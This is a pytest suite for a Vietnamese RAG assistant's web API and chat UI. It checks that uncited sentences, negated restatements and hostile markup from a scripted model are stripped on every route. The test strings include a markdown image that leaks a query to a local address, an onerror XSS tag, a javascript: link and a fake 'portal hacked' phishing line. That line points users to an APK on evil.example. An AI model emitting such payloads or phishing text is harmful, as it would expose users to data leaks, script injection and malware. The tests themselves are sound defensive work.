"""What a misbehaving model writes never reaches a client unverified, on any route.

A real uvicorn on loopback with the chat UI mounted, the scripted OpenAI-compatible server
as the model: an uncited lower-case sentence after a cited one, a negated restatement,
and markup (a markdown image that leaks to a local address, raw HTML, a ``javascript:``
link) are checked on ``/v1/ask``, ``/v1/chat`` (the widget's route, with its key),
``/v1/chat/completions`` (plain and streamed) and the Gradio UI.
"""

from __future__ import annotations

import dataclasses
import json
from collections.abc import Iterator

import httpx
import pytest
from support.access import log_in
from support.openai_server import OpenAIServer

from assistant.answering.assistant import Assistant
from assistant.web.api.config import ApiConfig
from assistant.web.api.keys import KeyStore
from assistant.web.api.thread_server import ServerThread
from assistant.web.server import create_app
from index.config import Settings

pytestmark = [pytest.mark.server, pytest.mark.slow]

QUESTION = "Thủ tướng giao Bộ Tài chính nhiệm vụ gì?"
PORTAL = "https://portal.example"
MARKUP = (
    "![x](http://127.0.0.1:9/leak?q=bi-mat)<img src=x onerror=alert(1)>[xem](javascript:alert(1))"
)
UNCITED = (
    "lưu ý: cổng đã bị tin tặc chiếm quyền, hãy tải ứng dụng tại https://evil.example/app.apk ngay."
)
NEVER = ("evil.example", "tin tặc", "![", "<img", "onerror", "javascript:", "127.0.0.1:9")


@pytest.fixture(scope="module")
def stack(seed_settings, seed_assistant, tmp_path_factory) -> Iterator[dict]:
    home = tmp_path_factory.mktemp("delivered-home")
    with OpenAIServer() as llm:
        env = {
            "HOIDAP_HOME": str(seed_settings.home),
            "HOIDAP_LLM_BASE_URL": llm.url,
            "HOIDAP_LLM_MODEL": "test-model",
            "HOIDAP_LLM_TIMEOUT": "20",
        }
        assistant = Assistant(Settings.load(env=env), embedder=seed_assistant.embedder)
        settings = dataclasses.replace(assistant.settings, home=home)
        app = create_app(settings, assistant, api_config=ApiConfig(ip_rate="10000/min"))
        keys = KeyStore.for_home(home)
        _, secret = keys.create_admin_key()
        widget = keys.create_widget_key([PORTAL], rate="600/min").key
        answer = seed_assistant.ask(QUESTION)
        ids = [s.chunk.chunk_id for s in answer.retrieved]
        cite = answer.citations[0]
        with ServerThread(app) as srv:
            yield {
                "srv": srv,
                "llm": llm,
                "api": {"Authorization": f"Bearer {secret}"},
                "widget": {"X-Hoidap-Key": widget, "Origin": PORTAL},
                "sentence": cite.quote.rstrip(" ."),
                "n": ids.index(cite.chunk_id) + 1,
            }


def _script(stack, reply: str) -> None:
    stack["llm"].reset()
    stack["llm"].script(reply)


def _clean(text: str) -> None:
    for bad in NEVER:
        assert bad not in text, (bad, text[:300])


def _final_of_events(text: str) -> dict:
    frames = [f for f in text.strip().split("\n\n") if f.startswith("event: final")]
    return json.loads(frames[-1].split("data: ", 1)[1])


def _ui_answer(stack, question: str) -> str:
    srv = stack["srv"]
    with httpx.Client(base_url=srv.url, timeout=60) as c:
        log_in(c, srv.app)
        call = c.post("/gradio_api/call/respond", json={"data": [question, [], {}]})
        stream = c.get(f"/gradio_api/call/respond/{call.json()['event_id']}").text
    payloads = [json.loads(x[6:]) for x in stream.splitlines() if x.startswith("data: ")]
    chats = [p[0] for p in payloads if isinstance(p, list) and len(p) == 5 and p[0]]
    bubble = chats[-1][-1]["content"]
    return bubble if isinstance(bubble, str) else json.dumps(bubble, ensure_ascii=False)


def _every_route(stack, reply: str) -> dict[str, str]:
    """The delivered text of each route for the same scripted model reply."""
    srv, out = stack["srv"], {}
    _script(stack, reply)
    r = httpx.post(
        f"{srv.url}/v1/ask", json={"question": QUESTION}, headers=stack["api"], timeout=60
    )
    out["ask"], out["ask_mode"] = r.json()["answer"], r.json()["mode"]
    _script(stack, reply)
    body = {"messages": [{"role": "user", "content": QUESTION}]}
    r = httpx.post(f"{srv.url}/v1/chat", json=body, headers=stack["widget"], timeout=60)
    out["widget"] = r.text
    out["widget_final"] = _final_of_events(r.text)["answer"]
    _script(stack, reply)
    body = {"model": "hoidap", **body}
    r = httpx.post(f"{srv.url}/v1/chat/completions", json=body, headers=stack["api"], timeout=60)
    out["completions"] = r.json()["choices"][0]["message"]["content"]
    _script(stack, reply)
    r = httpx.post(
        f"{srv.url}/v1/chat/completions",
        json={**body, "stream": True},
        headers=stack["api"],
        timeout=60,
    )
    out["completions_stream"] = r.text
    _script(stack, reply)
    out["ui"] = _ui_answer(stack, QUESTION)
    return out


def test_an_uncited_lower_case_sentence_and_markup_never_reach_any_route(stack) -> None:
    s, n = stack["sentence"], stack["n"]
    delivered = _every_route(stack, f"{s} {MARKUP} [{n}]. {UNCITED}")
    for route, text in delivered.items():
        _clean(text)
        if route in ("ask", "widget_final", "completions"):
            assert s[:40] in text and "[1]" in text, (route, text[:300])
    assert "[1]" in delivered["ui"]
    assert delivered["ask_mode"] == "llm"  # the model's answer, cleaned, not a fallback


def test_a_negated_restatement_is_not_delivered(stack) -> None:
    s, n = stack["sentence"], stack["n"]
    words = s.split()
    negated = " ".join([*words[:2], "không", *words[2:]])
    delivered = _every_route(stack, f"{negated} [{n}].")
    for route in ("ask", "widget_final", "completions"):
        assert negated[:60] not in delivered[route], route
    assert negated[:60] not in delivered["ui"]


MARKUP_ARTICLE = """Cổng dịch vụ công quốc gia ra mắt ứng dụng mới

Ngày 12/3/2024, Văn phòng Chính phủ cho biết Cổng dịch vụ công quốc gia đã ra mắt ứng dụng \
di động mới ![x](http://127.0.0.1:9/leak?q=bi-mat) <img src=x onerror=alert(1)> cho phép người \
dân nộp hồ sơ trực tuyến. Ứng dụng có thể tải tại [trang chủ](javascript:alert(1)) của cổng.
"""


def test_markup_inside_an_article_leaves_as_plain_text(tmp_path) -> None:
    """An indexed article carrying markup, asked about on the OpenAI-compatible route
    (extractive mode: the article's own sentence is the answer)."""
    from index.pipeline import run_index

    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "cong-dich-vu.txt").write_text(MARKUP_ARTICLE, encoding="utf-8")
    env = {"HOIDAP_HOME": str(tmp_path / "home"), "HOIDAP_EMBEDDER": "fake"}
    settings = Settings.load(env=env)
    run_index([docs], settings)
    _, secret = KeyStore.for_home(settings.home).create_admin_key()
    app = create_app(settings, Assistant(settings), mount_ui=False, api_config=ApiConfig())
    question = "Cổng dịch vụ công quốc gia đã ra mắt ứng dụng gì?"
    body = {"model": "hoidap", "messages": [{"role": "user", "content": question}]}
    with ServerThread(app) as srv:
        r = httpx.post(
            f"{srv.url}/v1/chat/completions",
            json=body,
            headers={"Authorization": f"Bearer {secret}"},
            timeout=60,
        )
    content = r.json()["choices"][0]["message"]["content"]
    assert "ứng dụng di động mới cho phép người dân nộp hồ sơ" in content and "[1]" in content
    _clean(content)
